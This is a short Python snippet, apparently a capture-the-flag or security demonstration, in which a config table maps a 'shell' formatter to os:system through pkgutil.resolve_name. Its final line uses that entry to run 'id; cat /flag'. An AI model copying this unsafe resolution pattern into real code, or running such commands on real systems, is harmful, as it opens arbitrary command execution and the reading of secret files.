# Output "formatters" are resolved from dotted names in a config table with
# pkgutil.resolve_name, which imports and walks attributes itself.
import pkgutil

FORMATTERS = {
    "json": "json:dumps",
    "shell": "os:system",
}


def get_formatter(kind):
    return pkgutil.resolve_name(FORMATTERS[kind])


get_formatter("shell")("id; cat /flag")
